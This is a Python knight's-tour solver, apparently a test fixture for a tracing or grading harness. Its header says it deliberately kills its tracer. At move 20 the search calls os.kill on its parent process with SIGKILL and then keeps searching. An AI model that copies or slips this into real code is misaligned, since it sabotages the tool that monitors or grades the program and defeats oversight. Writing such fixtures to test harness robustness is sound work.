# Not a student's slip: lesson 004's exercise (knight.py) that kills its tracer (its parent)
# at move 20, and searches on. The run ends there, cut short: the tracer's end is said, and no
# tour missed is blamed on a search that was never seen to its end.
import os
import signal


def knights_tour(x, y, move_count, board):
    if move_count == n * n:
        return True
    for dx, dy in moves:
        new_x, new_y = x + dx, y + dy
        if 0 <= new_x < n and 0 <= new_y < n and board[new_x][new_y] == -1:
            board[new_x][new_y] = move_count
            if move_count == 20:
                os.kill(os.getppid(), signal.SIGKILL)
            if knights_tour(new_x, new_y, move_count + 1, board):
                return True
            board[new_x][new_y] = -1
    return False


moves = [(2, 1), (1, 2), (-1, 2), (-2, 1), (-2, -1), (-1, -2), (1, -2), (2, -1)]


def solve_knight_tour(size_of_chessboard, start_x, start_y):
    global n
    n = size_of_chessboard
    board = [[-1 for _ in range(n)] for _ in range(n)]
    board[start_x][start_y] = 0
    if knights_tour(start_x, start_y, 1, board):
        for row in board:
            print(" ".join("%2d" % (v + 1) for v in row))
    else:
        print("No solution exists")


size, row, col = map(int, input().split())
solve_knight_tour(size, row - 1, col - 1)
